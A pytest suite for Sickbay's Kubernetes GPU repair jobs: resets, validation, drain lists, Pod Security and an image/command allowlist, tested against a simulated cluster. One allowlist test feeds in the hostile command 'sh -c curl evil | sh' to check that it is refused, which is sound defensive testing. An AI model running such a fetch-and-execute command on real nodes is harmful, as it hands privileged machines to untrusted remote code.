"""The GPU rungs' activities (activities/kube/repair_jobs.py) against the twin with its controllers
(Job controller, scheduler with DRA allocation, kubelet stand-in playing nvidia-smi / dcgmi).

Cases:
- reset pass (DRA and device plugin): Xid 48, the GPU free, the reset Job succeeds with
  nvidia-smi's words as its summary, the fault is cleared; starting the same attempt again
  finds its Job (created False, still one Job);
- reset fail: Xid 79 -> the Job fails, summary "GPU is lost", the fault stays;
- holders refuse: a pod on the GPU (DRA claim; device plugin nvidia.com/gpu) or on a
  time-sliced sibling replica of it -> GpuStillHeld naming the pod; Sickbay's own pods are
  ignored when listed;
- reset groups: HGX (NVSwitch) pools -> every GPU of the baseboard from the ResourceSlice
  attribute, the device-plugin node from its label; a plain GPU is its own group; the reset
  Job of a group names every GPU and succeeds;
- validation pass/fail on DRA (a claim selecting the device, tolerating Sickbay's NoExecute
  DeviceTaintRule still on it) and on the device plugin (NVIDIA_VISIBLE_DEVICES); clean-up
  removes the Job, its pod and the claim;
- a replace's new node: wait-for-node-gpus with the guard cordons it (Sickbay's cordon) while
  it is still NotReady with no GPU published, then returns it Ready with its new GPUs; one
  validation Job per new GPU runs on the cordoned node (DRA: the claim found by the GPU's
  UUID, the pod tolerating the cordon; device plugin: pinned by nodeName) and passes or fails
  from the twin's health (a fault injected on a new GPU fails its Job only);
- dry run: the manifest comes back, nothing is created;
- drain lists (DRA and device plugin): a reset group's drain names the pods on the group's
  GPUs only; a node drain names every pod of the node except DaemonSet pods, mirror pods and
  Sickbay's repair namespace; both report every physical GPU of the node.
- the repair namespace (`enforce: privileged`, as deploy/ ships it): the Jobs run there as the
  `sickbay-repair` ServiceAccount with no token, with requests and limits; the reset pod is
  the only privileged one, the validation pod passes Pod Security baseline (drops every
  capability, no privilege escalation, RuntimeDefault seccomp);
- a Job whose pod is refused (the namespace `enforce: restricted`, as the repair Jobs once ran
  in Sickbay's own namespace) -> RepairJobRefused at the next poll with the FailedCreate text,
  while the Job has not failed yet (long before its deadline); a pod stuck on an image pull ->
  RepairJobRefused naming ErrImagePull and its message;
- the allowlist: an image or command the allowlist lacks, or no image allowlisted ->
  RepairNotAllowed naming it, nothing created; the allowlist's first image is the default; an
  input naming another namespace than the repair namespace -> RepairNotAllowed too.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from temporalio.exceptions import ApplicationError

from activities.kube.repair_activities import KubeRepairActivities
from activities.kube.repair_jobs import RepairConfig
from contract.errors import (
    ERR_GPU_HELD,
    ERR_REPAIR_JOB_REFUSED,
    ERR_REPAIR_NOT_ALLOWED,
    ERR_STILL_WAITING,
)
from contract.names import REPAIR_NAMESPACE
from contract.repair_rungs import (
    CleanUpRepairJobInput,
    DrainPodsInput,
    GpuHoldersInput,
    NodeGpusResult,
    RepairJobInput,
    RepairJobOutcome,
    RepairJobStarted,
    ResetGroupInput,
    ValidationJobInput,
    WaitNodeGpusInput,
    WaitRepairJobInput,
)
from contract.runbook import RepairAllowlist
from tests.activities.kube.conftest import DRIVER, KubeTwin, twin
from twin.clock import Clock
from twin.controllers.manager import ControllerManager, TwinOptions

WAIT = 30.0  # real seconds for a Job to end on a busy machine
RESET_IMAGE = "registry.invalid/ops/nvidia-smi@sha256:" + "a" * 64
VALIDATION_IMAGE = "registry.invalid/ops/dcgm@sha256:" + "b" * 64
ALLOWLIST = RepairAllowlist.model_validate(
    {"reset": {"images": [RESET_IMAGE]}, "validation": {"images": [VALIDATION_IMAGE]}}
)
CONFIG = RepairConfig(allowlist=ALLOWLIST)
PRIVILEGED_NS = {"pod-security.kubernetes.io/enforce": "privileged"}


@pytest.fixture
def make(tmp_path: Path) -> Iterator[Any]:
    stack: list[Any] = []

    def start(
        profile: str,
        options: TwinOptions | None = None,
        ns_labels: dict[str, str] | None = None,
        config: RepairConfig = CONFIG,
        **seed: Any,
    ) -> tuple[KubeTwin, KubeRepairActivities]:
        cm = twin(
            tmp_path,
            profile,
            controllers=ControllerManager(options or TwinOptions(pod_startup_seconds=1)),
            clock=Clock(time_scale=20),
            **seed,
        )
        t = cm.__enter__()
        stack.append(cm)
        t.namespace(REPAIR_NAMESPACE, PRIVILEGED_NS if ns_labels is None else ns_labels)
        acts = KubeRepairActivities(t.acts.kube, config)
        stack.append(acts)
        return t, acts

    yield start
    for item in reversed(stack):
        if isinstance(item, KubeRepairActivities):
            item.close()
        else:
            item.__exit__(None, None, None)


def _faults(t: KubeTwin) -> Any:
    return t.twin.extensions["faults"]


async def _outcome(
    t: KubeTwin, acts: KubeRepairActivities, job: RepairJobStarted
) -> RepairJobOutcome:
    deadline = time.monotonic() + WAIT
    while True:
        try:
            return await t.run(
                acts.wait_for_repair_job,
                WaitRepairJobInput(namespace=job.namespace, job_name=job.job_name),
            )
        except ApplicationError as err:
            if err.type != ERR_STILL_WAITING or time.monotonic() > deadline:
                raise
        await asyncio.sleep(0.1)


def _jobs(t: KubeTwin) -> list[dict[str, Any]]:
    return t.store.list("jobs.batch", namespace=REPAIR_NAMESPACE).items


@pytest.mark.parametrize("profile", ["1.36", "device-plugin"])
async def test_reset_passes_once_per_attempt(make: Any, profile: str) -> None:
    t, acts = make(profile)
    node = t.node()
    uuid = t.uuid_of(node, 0)
    _faults(t).fail(node, uuid, xid=48)
    await t.run(acts.check_gpu_holders, GpuHoldersInput(node=node, gpu_uuids=[uuid]))
    inp = RepairJobInput(
        workflow_id="wf-1", incident="wf-1/run-1", attempt=1, node=node, gpu_uuids=[uuid]
    )
    first = await t.run(acts.start_reset_job, inp)
    again = await t.run(acts.start_reset_job, inp)
    assert first.created and not again.created and again.job_name == first.job_name
    assert len(_jobs(t)) == 1
    job = _jobs(t)[0]["spec"]["template"]["spec"]
    assert job["nodeName"] == node and job["containers"][0]["securityContext"]["privileged"]
    assert job["containers"][0]["command"] == ["nvidia-smi", "-r", "-i", uuid]
    outcome = await _outcome(t, acts, first)
    assert outcome.passed and "was successfully reset" in outcome.summary
    assert not _faults(t).faults()
    # A new attempt is a new Job.
    second = await t.run(acts.start_reset_job, inp.model_copy(update={"attempt": 2}))
    assert second.created and second.job_name != first.job_name


async def test_reset_of_a_gpu_off_the_bus_fails(make: Any) -> None:
    t, acts = make("1.36")
    node = t.node()
    uuid = t.uuid_of(node, 0)
    _faults(t).fail(node, uuid, xid=79)
    job = await t.run(
        acts.start_reset_job,
        RepairJobInput(workflow_id="wf", incident="wf/run-1", node=node, gpu_uuids=[uuid]),
    )
    outcome = await _outcome(t, acts, job)
    assert not outcome.passed and "GPU is lost" in outcome.summary
    assert outcome.reason == "BackoffLimitExceeded"
    assert [f.xid for f in _faults(t).faults()] == [79]


@pytest.mark.parametrize(
    ("profile", "topology", "device"),
    [
        ("1.36", "full", "gpu-0"),
        ("1.36", "timeslice", "gpu-0-ts-1"),
        ("device-plugin", "full", None),
    ],
)
async def test_holders_refuse_the_reset(
    make: Any, profile: str, topology: str, device: str | None
) -> None:
    t, acts = make(profile, topology=topology)
    node = t.node()
    uuid, other = (g.uuid for g in _faults(t).gpus(node)[:2])  # physical GPUs 0 and 1
    t.consumer_pod("ml", "trainer", node, device, gpu_uuid=uuid)
    with pytest.raises(ApplicationError) as err:
        await t.run(acts.check_gpu_holders, GpuHoldersInput(node=node, gpu_uuids=[uuid]))
    assert err.value.type == ERR_GPU_HELD and "ml/trainer" in str(err.value)
    assert not err.value.non_retryable  # poll until the consumer is gone
    # Another GPU of the node is free; Sickbay's own pod is not a holder.
    await t.run(acts.check_gpu_holders, GpuHoldersInput(node=node, gpu_uuids=[other]))
    free = await t.run(
        acts.check_gpu_holders,
        GpuHoldersInput(node=node, gpu_uuids=[uuid], ignore_pods=["ml/trainer"]),
    )
    assert free.holders == []


@pytest.mark.parametrize(("profile", "source"), [("1.36", "attribute"), ("device-plugin", "label")])
async def test_reset_group_on_an_nvswitch_baseboard(make: Any, profile: str, source: str) -> None:
    t, acts = make(profile, gpus_per_node=4, nvswitch=True)
    node = t.node()
    uuids = [t.uuid_of(node, i) for i in range(4)]
    group = await t.run(acts.find_reset_group, ResetGroupInput(node=node, gpu_uuid=uuids[2]))
    assert group.gpu_uuids == uuids and group.source == source
    _faults(t).fail(node, uuids[2], xid=95)
    job = await t.run(
        acts.start_reset_job,
        RepairJobInput(workflow_id="wf", incident="wf/run-1", node=node, gpu_uuids=group.gpu_uuids),
    )
    outcome = await _outcome(t, acts, job)
    assert outcome.passed and outcome.summary.count("successfully reset") == 4
    assert not _faults(t).faults()


async def test_a_plain_gpu_is_its_own_reset_group(make: Any) -> None:
    t, acts = make("1.36")
    node = t.node()
    uuid = t.uuid_of(node, 1)
    group = await t.run(acts.find_reset_group, ResetGroupInput(node=node, gpu_uuid=uuid))
    assert group.gpu_uuids == [uuid] and group.source == "single"


def _taint(t: KubeTwin, node: str, device: str) -> None:
    t.store.create(
        "devicetaintrules.resource.k8s.io",
        {
            "apiVersion": "resource.k8s.io/v1beta2",
            "kind": "DeviceTaintRule",
            "metadata": {"name": f"sickbay-{node}-{device}"},
            "spec": {
                "deviceSelector": {"driver": DRIVER, "pool": node, "device": device},
                "taint": {
                    "key": "sickbay.dev/unhealthy",
                    "value": "unhealthy",
                    "effect": "NoExecute",
                },
            },
        },
    )


@pytest.mark.parametrize("profile", ["1.36", "device-plugin"])
@pytest.mark.parametrize("healthy", [True, False])
async def test_validation(make: Any, profile: str, healthy: bool) -> None:
    t, acts = make(profile)
    node = t.node()
    uuid = t.uuid_of(node, 0)
    if t.dra:
        _taint(t, node, "gpu-0")  # still quarantined while it is validated
    if not healthy:
        _faults(t).fail(node, uuid, degrade="ecc-sbe")
    inp = ValidationJobInput(
        workflow_id="wf",
        incident="wf/run-1",
        mode="dra" if t.dra else "device-plugin",
        node=node,
        gpu_uuid=uuid,
        driver=DRIVER if t.dra else None,
        pool=node if t.dra else None,
        device="gpu-0" if t.dra else None,
        level=1,
    )
    job = await t.run(acts.start_validation_job, inp)
    assert (job.claim_name is not None) == t.dra
    outcome = await _outcome(t, acts, job)
    assert outcome.passed is healthy, outcome.summary
    assert ("Result: Pass" if healthy else "Result: Fail") in outcome.summary
    if t.dra:
        # The claim got the quarantined device itself (it is deallocated once the pod ended).
        assert f"{DRIVER}/{node}/gpu-0" in outcome.summary
        pods = t.store.list("pods", namespace=REPAIR_NAMESPACE).items
        assert pods and pods[0]["spec"]["nodeName"] == node
    else:
        env = _jobs(t)[0]["spec"]["template"]["spec"]["containers"][0]["env"]
        assert {"name": "NVIDIA_VISIBLE_DEVICES", "value": uuid} in env
    await t.run(
        acts.clean_up_repair_job,
        CleanUpRepairJobInput(
            namespace=job.namespace, job_name=job.job_name, claim_name=job.claim_name
        ),
    )
    deadline = time.monotonic() + WAIT
    while (
        _jobs(t) or t.store.list("resourceclaims.resource.k8s.io", namespace=REPAIR_NAMESPACE).items
    ):
        assert time.monotonic() < deadline, "Job or claim left behind"
        await asyncio.sleep(0.1)
    await t.run(
        acts.clean_up_repair_job,
        CleanUpRepairJobInput(
            namespace=job.namespace, job_name=job.job_name, claim_name=job.claim_name
        ),
    )  # gone: fine


async def test_dry_run_creates_nothing(make: Any) -> None:
    t, acts = make("1.36")
    node = t.node()
    uuid = t.uuid_of(node, 0)
    reset = await t.run(
        acts.start_reset_job,
        RepairJobInput(
            workflow_id="wf", incident="wf/run-1", node=node, gpu_uuids=[uuid], dry_run=True
        ),
    )
    check = await t.run(
        acts.start_validation_job,
        ValidationJobInput(
            workflow_id="wf",
            incident="wf/run-1",
            node=node,
            gpu_uuid=uuid,
            driver=DRIVER,
            pool=node,
            device="gpu-0",
            dry_run=True,
        ),
    )
    assert reset.dry_run and reset.manifest["kind"] == "Job" and check.dry_run
    assert _jobs(t) == [] and not t.store.list("resourceclaims.resource.k8s.io").items


async def test_validation_claim_must_tolerate_sickbays_taint(make: Any) -> None:
    """Without the toleration of Sickbay's own taint the quarantined device is never given to
    the validation pod: it stays Unschedulable (so the toleration is what lets it run)."""
    t, acts = make("1.36")
    node = t.node()
    for i in range(2):  # every device is tainted: nowhere else to go
        _taint(t, node, f"gpu-{i}")
    inp = ValidationJobInput(
        workflow_id="wf",
        incident="wf/run-1",
        node=node,
        gpu_uuid=t.uuid_of(node, 0),
        driver=DRIVER,
        pool=node,
        device="gpu-0",
        taint_key="example.com/other",
    )
    await t.run(acts.start_validation_job, inp)
    deadline = time.monotonic() + WAIT

    def unschedulable() -> bool:
        for pod in t.store.list("pods", namespace=REPAIR_NAMESPACE).items:
            for cond in pod.get("status", {}).get("conditions") or []:
                if cond.get("type") == "PodScheduled" and cond.get("reason") == "Unschedulable":
                    return True
        return False

    while not unschedulable():
        assert time.monotonic() < deadline, "the pod was scheduled without the toleration"
        await asyncio.sleep(0.1)


@pytest.mark.parametrize("profile", ["1.36", "device-plugin"])
async def test_drain_lists_of_a_group_and_of_the_node(make: Any, profile: str) -> None:
    t, acts = make(profile, gpus_per_node=4, nvswitch=True)
    node = t.node()
    uuids = [t.uuid_of(node, i) for i in range(4)]
    dra = profile != "device-plugin"
    t.consumer_pod("ml", "on-gpu-1", node, "gpu-1" if dra else None, gpu_uuid=uuids[1])
    t.consumer_pod("ml", "on-gpu-3", node, "gpu-3" if dra else None, gpu_uuid=uuids[3])
    t.namespace("kube-system")
    daemon = {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "dcgm", "uid": "u-ds"}
    for name, extra in (
        ("dcgm-exporter-x", {"ownerReferences": [daemon]}),
        ("static-proxy", {"annotations": {"kubernetes.io/config.mirror": "abc"}}),
    ):
        t.store.create(
            "pods",
            {
                "metadata": {"name": name, "namespace": "kube-system", **extra},
                "spec": {"nodeName": node, "containers": [{"name": "c", "image": "x"}]},
                "status": {"phase": "Running"},
            },
            namespace="kube-system",
        )
    t.store.create(
        "pods",
        {
            "metadata": {"name": "sickbay-reset-1", "namespace": REPAIR_NAMESPACE},
            "spec": {"nodeName": node, "containers": [{"name": "c", "image": "x"}]},
            "status": {"phase": "Running"},
        },
        namespace=REPAIR_NAMESPACE,
    )
    group = await t.run(acts.find_drain_pods, DrainPodsInput(node=node, gpu_uuids=uuids[:2]))
    assert [p.name for p in group.pods] == ["on-gpu-1"]
    assert [u.lower() for u in group.node_gpu_uuids] == [u.lower() for u in uuids]
    whole = await t.run(acts.find_drain_pods, DrainPodsInput(node=node))
    assert [(p.namespace, p.name) for p in whole.pods] == [("ml", "on-gpu-1"), ("ml", "on-gpu-3")]
    assert len(whole.node_gpu_uuids) == 4


def test_a_new_incident_of_the_same_gpu_gets_its_own_jobs() -> None:
    """The same GPU failing again later (a new run of the same workflow id) must not read the
    Job an earlier incident left behind (kept a day by its TTL) as its own attempt's result."""
    from activities.kube.repair_jobs import reset_job_manifest, validation_manifests

    def reset(incident: str) -> str:
        inp = RepairJobInput(workflow_id="wf", incident=incident, node="n", gpu_uuids=["GPU-1"])
        return str(reset_job_manifest(inp, CONFIG)["metadata"]["name"])

    def validation(incident: str) -> str:
        inp = ValidationJobInput(
            workflow_id="wf", incident=incident, mode="device-plugin", node="n", gpu_uuid="GPU-1"
        )
        return str(validation_manifests(None, inp, CONFIG)[0]["metadata"]["name"])

    assert reset("wf/run-1") == reset("wf/run-1")  # a retry of one attempt: the same Job
    assert reset("wf/run-1") != reset("wf/run-2")
    assert validation("wf/run-1") != validation("wf/run-2")


# A new Machine (new name) on DRA; a recreated VM (same name) on the device plugin.
@pytest.mark.parametrize(("profile", "same_name"), [("1.36", False), ("device-plugin", True)])
async def test_a_replaced_nodes_new_gpus_are_guarded_and_validated(
    make: Any, profile: str, same_name: bool
) -> None:
    options = TwinOptions(pod_startup_seconds=1, provisioning_delay=5, node_startup_seconds=200)
    t, acts = make(profile, options=options)
    node = t.node()
    old = [t.uuid_of(node, i) for i in range(2)]
    _faults(t).fail(node, old[0], xid=64)  # the failure the node is replaced for
    pool = t.store.get("nodes", node)["metadata"]["labels"]["sickbay.dev/node-pool"]
    asked_at = t.twin.clock.now()
    t.twin.extensions["repairs"].replace(node, same_name=same_name)
    assert _faults(t).faults() == []  # new hardware: the old GPU's fault went with it
    wait = WaitNodeGpusInput(
        node=node,
        replaced=True,
        node_pool=pool,
        previous_uuids=old,
        asked_at=asked_at,
        expected_gpus=2,
        guard_workflow_id="wf-guard",
    )
    seen_unpublished_and_cordoned = False
    said_cordoned = False  # a wait that times out names the cordon it leaves
    deadline = time.monotonic() + WAIT
    while True:
        try:
            back: NodeGpusResult = await t.run(acts.wait_for_node_gpus, wait)
            break
        except ApplicationError as err:
            assert err.type == ERR_STILL_WAITING and time.monotonic() < deadline, err
            said_cordoned |= "cordoned by Sickbay for wf-guard" in str(err)
        fresh = [
            n
            for n in t.store.list("nodes").items
            if n["metadata"]["name"] not in t.twin.seed_info["nodes"]
            or (same_name and n["metadata"]["name"] == node)
        ]
        if fresh and fresh[0]["spec"].get("unschedulable"):
            # Cordoned by the wait before the node published any GPU.
            ready = [c for c in fresh[0]["status"]["conditions"] if c["type"] == "Ready"][0][
                "status"
            ]
            annotations = fresh[0]["metadata"].get("annotations") or {}
            assert annotations.get("sickbay.dev/cordoned-by") == "wf-guard"
            if ready != "True":
                seen_unpublished_and_cordoned = True
        await asyncio.sleep(0.1)
    assert seen_unpublished_and_cordoned
    assert said_cordoned
    assert (back.node == node) is same_name and back.cordoned and len(back.gpu_uuids) == 2
    assert not set(back.gpu_uuids) & set(old)
    assert t.store.get("nodes", back.node)["spec"]["unschedulable"] is True
    # A fault injected on one new GPU before validation fails that GPU's Job only.
    bad, good = back.gpu_uuids[1], back.gpu_uuids[0]
    _faults(t).fail(back.node, bad, degrade="ecc-sbe")
    jobs = {}
    for uuid in back.gpu_uuids:
        jobs[uuid] = await t.run(
            acts.start_validation_job,
            ValidationJobInput(
                workflow_id="wf-guard",
                incident=f"wf-guard/run-1/{uuid}",
                mode="dra" if t.dra else "device-plugin",
                node=back.node,
                gpu_uuid=uuid,
                driver=DRIVER if t.dra else None,  # pool and device found by the UUID
                level=1,
            ),
        )
    assert len({j.job_name for j in jobs.values()}) == 2
    outcomes = {u: await _outcome(t, acts, j) for u, j in jobs.items()}
    assert outcomes[good].passed, outcomes[good].summary
    assert not outcomes[bad].passed and "Result: Fail" in outcomes[bad].summary
    assert "Result: Pass" in outcomes[good].summary
    pods = t.store.list("pods", namespace=REPAIR_NAMESPACE).items
    assert {p["spec"]["nodeName"] for p in pods} == {back.node}  # ran on the cordoned node


async def test_repair_pods_run_as_their_own_account_with_only_what_they_need(make: Any) -> None:
    t, acts = make("1.36")
    node = t.node()
    uuid = t.uuid_of(node, 0)
    reset = await t.run(
        acts.start_reset_job,
        RepairJobInput(workflow_id="wf", incident="wf/run-1", node=node, gpu_uuids=[uuid]),
    )
    check = await t.run(
        acts.start_validation_job,
        ValidationJobInput(
            workflow_id="wf",
            incident="wf/run-1",
            node=node,
            gpu_uuid=uuid,
            driver=DRIVER,
            pool=node,
            device="gpu-0",
        ),
    )
    assert reset.namespace == check.namespace == REPAIR_NAMESPACE
    specs = {
        j["metadata"]["labels"]["sickbay.dev/repair"]: j["spec"]["template"]["spec"]
        for j in _jobs(t)
    }
    for kind, spec in specs.items():
        assert spec["serviceAccountName"] == "sickbay-repair", kind
        assert spec["automountServiceAccountToken"] is False, kind
        resources = spec["containers"][0]["resources"]
        assert resources["requests"] and resources["limits"], kind
    assert specs["reset"]["containers"][0]["image"] == RESET_IMAGE  # the allowlist's first
    assert specs["reset"]["containers"][0]["securityContext"] == {"privileged": True}
    validate = specs["validation"]["containers"][0]
    assert validate["image"] == VALIDATION_IMAGE
    assert validate["resources"]["claims"] == [{"name": "gpu"}]
    from twin import podsecurity

    assert podsecurity.violations("baseline", specs["validation"]) == []
    assert podsecurity.violations("baseline", specs["reset"])  # privileged: only that level


async def test_a_refused_reset_job_is_reported_at_the_next_poll(make: Any) -> None:
    restricted = {"pod-security.kubernetes.io/enforce": "restricted"}
    t, acts = make("1.36", ns_labels=restricted)
    node = t.node()
    inp = RepairJobInput(
        workflow_id="wf", incident="wf/run-1", node=node, gpu_uuids=[t.uuid_of(node, 0)]
    )
    job = await t.run(acts.start_reset_job, inp)
    with pytest.raises(ApplicationError) as caught:
        await _outcome(t, acts, job)
    err = caught.value
    assert err.type == ERR_REPAIR_JOB_REFUSED and err.non_retryable
    assert "cannot create its pod: FailedCreate: Error creating: pods" in err.message
    assert 'violates PodSecurity "restricted:latest": privileged (container "reset"' in err.message
    # Said while the Job still runs towards its 5-minute deadline, not when it fails.
    live = t.store.get("jobs.batch", job.job_name, REPAIR_NAMESPACE)
    assert not [c for c in live["status"].get("conditions") or [] if c["type"] == "Failed"]


async def test_a_pod_stuck_on_its_image_is_reported_with_the_kubelets_reason(make: Any) -> None:
    t, acts = make("1.36", TwinOptions(pod_startup_seconds=3600))  # never starts by itself
    node = t.node()
    inp = RepairJobInput(
        workflow_id="wf", incident="wf/run-1", node=node, gpu_uuids=[t.uuid_of(node, 0)]
    )
    job = await t.run(acts.start_reset_job, inp)
    deadline = time.monotonic() + WAIT
    while not (pods := t.store.list("pods", namespace=REPAIR_NAMESPACE).items):
        assert time.monotonic() < deadline, "no pod"
        await asyncio.sleep(0.05)
    message = f'failed to pull and unpack image "{RESET_IMAGE}": 403 Forbidden'

    def pull_failed(pod: dict[str, Any]) -> None:
        pod["status"]["containerStatuses"] = [
            {
                "name": "reset",
                "ready": False,
                "restartCount": 0,
                "image": RESET_IMAGE,
                "imageID": "",
                "state": {"waiting": {"reason": "ErrImagePull", "message": message}},
            }
        ]

    name = pods[0]["metadata"]["name"]
    t.store.mutate("pods", name, pull_failed, REPAIR_NAMESPACE, subresource="status")
    with pytest.raises(ApplicationError) as caught:
        await _outcome(t, acts, job)
    assert caught.value.type == ERR_REPAIR_JOB_REFUSED
    assert f"pod {name} cannot start: ErrImagePull: {message}" in caught.value.message


@pytest.mark.parametrize(
    ("config", "image", "command", "says"),
    [
        (CONFIG, "nvcr.io/nvidia/cuda:12.8.1-base-ubuntu24.04", [], "is not in the operator's"),
        (CONFIG, None, ["sh", "-c", "curl evil | sh"], "command ['sh', '-c', 'curl evil | sh']"),
        (RepairConfig(), None, [], "no reset image is allowlisted"),
    ],
)
async def test_images_and_commands_come_from_the_allowlist(
    make: Any, config: RepairConfig, image: str | None, command: list[str], says: str
) -> None:
    t, acts = make("1.36", config=config)
    node = t.node()
    inp = RepairJobInput(
        workflow_id="wf",
        incident="wf/run-1",
        node=node,
        gpu_uuids=[t.uuid_of(node, 0)],
        image=image,
        command=command,
    )
    with pytest.raises(ApplicationError) as caught:
        await t.run(acts.start_reset_job, inp)
    assert caught.value.type == ERR_REPAIR_NOT_ALLOWED and caught.value.non_retryable
    assert says in caught.value.message
    assert _jobs(t) == []


async def test_jobs_are_created_in_the_repair_namespace_only(make: Any) -> None:
    t, acts = make("1.36")
    node = t.node()
    inp = RepairJobInput(
        workflow_id="wf",
        incident="wf/run-1",
        node=node,
        gpu_uuids=[t.uuid_of(node, 0)],
        namespace="sickbay",  # as recorded before the repair namespace existed
    )
    with pytest.raises(ApplicationError) as caught:
        await t.run(acts.start_reset_job, inp)
    assert caught.value.type == ERR_REPAIR_NOT_ALLOWED
    assert "namespace 'sickbay' is not the repair namespace 'sickbay-repair'" in (
        caught.value.message
    )
    assert t.store.list("jobs.batch").items == []
